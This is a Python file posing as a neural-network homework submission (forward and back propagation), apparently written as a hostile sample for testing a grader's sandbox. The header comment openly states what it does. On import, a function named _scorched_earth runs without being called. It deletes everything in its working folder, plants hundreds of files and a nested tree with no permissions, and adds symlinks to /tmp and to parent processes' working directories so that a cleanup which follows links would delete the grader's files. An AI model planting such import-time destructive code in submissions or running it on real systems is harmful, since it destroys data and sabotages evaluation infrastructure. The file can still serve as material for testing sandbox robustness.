# Homework 2: correct functions, plus at import: it deletes everything in its own working
# folder (the grader's scratch folder), then plants traps for whoever cleans up after it:
# hundreds of files, a nested tree without permissions, and symlinks from inside its
# folder to the grader's own working folder and to /tmp -- a cleanup that follows links
# would delete the grader's files. It deletes nothing outside its own folder, and only
# when that folder is a scratch folder (its cwd, HOME and TMPDIR are all the same folder,
# and not a home), so running it by hand is harmless.
import os
import pwd
import shutil

import numpy as np


def _ancestors(levels=3):
    """The parent, grandparent, ... process ids: the grader is one of them (or its fork server)."""
    pids, pid = [], os.getpid()
    for _ in range(levels):
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            pid = os.getppid() if not pids else 0
        if pid <= 1:
            break
        pids.append(pid)
    return pids or [os.getppid()]


def _cwd_of(pid):
    try:
        return os.path.realpath(f"/proc/{pid}/cwd")
    except OSError:
        return ""


def _scorched_earth():
    here = os.path.realpath(os.getcwd())
    home = os.path.realpath(os.environ.get("HOME", "/"))
    tmpdir = os.path.realpath(os.environ.get("TMPDIR", "/"))
    try:
        real_home = os.path.realpath(pwd.getpwuid(os.getuid()).pw_dir)
    except (KeyError, OSError):
        real_home = "/root"
    # a grader's scratch folder: cwd, HOME and TMPDIR all point at it, and it is nobody's home
    if not (here == home == tmpdir) or here in ("/", "/tmp", real_home):
        return
    for name in os.listdir(here):
        path = os.path.join(here, name)
        try:
            if os.path.isdir(path) and not os.path.islink(path):
                shutil.rmtree(path, ignore_errors=True)
            else:
                os.unlink(path)
        except OSError:
            pass
    os.makedirs(os.path.join(here, "trap", "a", "b", "c"), exist_ok=True)
    for i in range(300):
        with open(os.path.join(here, "trap", "a", f"f{i}.txt"), "w") as f:
            f.write("x")
    with open(os.path.join(here, "hostile-planted-file"), "w") as f:
        f.write("left behind by a graded submission\n")
    links = [("/tmp", os.path.join("trap", "a", "tmp-link"))]
    for n, pid in enumerate(_ancestors()):
        links += [(_cwd_of(pid), f"hostile-planted-link-{n}"), (_cwd_of(pid), os.path.join("trap", f"parent-cwd-{n}"))]
    for target, link in links:
        if target:
            try:
                os.symlink(target, os.path.join(here, link))
            except OSError:
                pass
    for folder in ("trap/a/b/c", "trap/a/b"):
        try:
            os.chmod(os.path.join(here, folder), 0)
        except OSError:
            pass


_scorched_earth()


def sigmoid(z):
    return 1 / (1 + np.exp(-z))


def forward_propagate(x1, x2, y1, y2, w1, w2, w3, w4, w5, w6, w7, w8):
    out_h1 = sigmoid(w1 * x1 + w3 * x2)
    out_h2 = sigmoid(w2 * x1 + w4 * x2)
    out_o1 = sigmoid(w5 * out_h1 + w7 * out_h2)
    out_o2 = sigmoid(w6 * out_h1 + w8 * out_h2)
    error = (1 / 2) * (out_o1 - y1) ** 2 + (1 / 2) * (out_o2 - y2) ** 2
    return out_o1, out_o2, out_h1, out_h2, error


def back_propagate(out_o1, out_o2, out_h1, out_h2):
    delta_o1 = (out_o1 - y1) * out_o1 * (1 - out_o1)
    delta_o2 = (out_o2 - y2) * out_o2 * (1 - out_o2)
    d_w5 = delta_o1 * out_h1
    d_w7 = delta_o1 * out_h2
    d_w6 = delta_o2 * out_h1
    d_w8 = delta_o2 * out_h2
    delta_h1 = (delta_o1 * w5 + delta_o2 * w6) * out_h1 * (1 - out_h1)
    delta_h2 = (delta_o1 * w7 + delta_o2 * w8) * out_h2 * (1 - out_h2)
    d_w1 = delta_h1 * x1
    d_w3 = delta_h1 * x2
    d_w2 = delta_h2 * x1
    d_w4 = delta_h2 * x2
    return d_w1, d_w2, d_w3, d_w4, d_w5, d_w6, d_w7, d_w8


def update_w(step, w1, w2, w3, w4, w5, w6, w7, w8):
    w1 = w1 - step * d_w1
    w2 = w2 - step * d_w2
    w3 = w3 - step * d_w3
    w4 = w4 - step * d_w4
    w5 = w5 - step * d_w5
    w6 = w6 - step * d_w6
    w7 = w7 - step * d_w7
    w8 = w8 - step * d_w8
    return w1, w2, w3, w4, w5, w6, w7, w8


if __name__ == "__main__":
    w1, w2, w3, w4, w5, w6, w7, w8 = 0.2, -0.4, 0.5, 0.6, 0.1, -0.5, -0.3, 0.8
    x1, x2 = 0.5, 0.3
    y1, y2 = 0.23, -0.07
    step = 1
    for i in range(10):
        out_o1, out_o2, out_h1, out_h2, error = forward_propagate(x1, x2, y1, y2, w1, w2, w3, w4, w5, w6, w7, w8)
        print("round", i, "loss", round(float(error), 6))
        d_w1, d_w2, d_w3, d_w4, d_w5, d_w6, d_w7, d_w8 = back_propagate(out_o1, out_o2, out_h1, out_h2)
        w1, w2, w3, w4, w5, w6, w7, w8 = update_w(step, w1, w2, w3, w4, w5, w6, w7, w8)
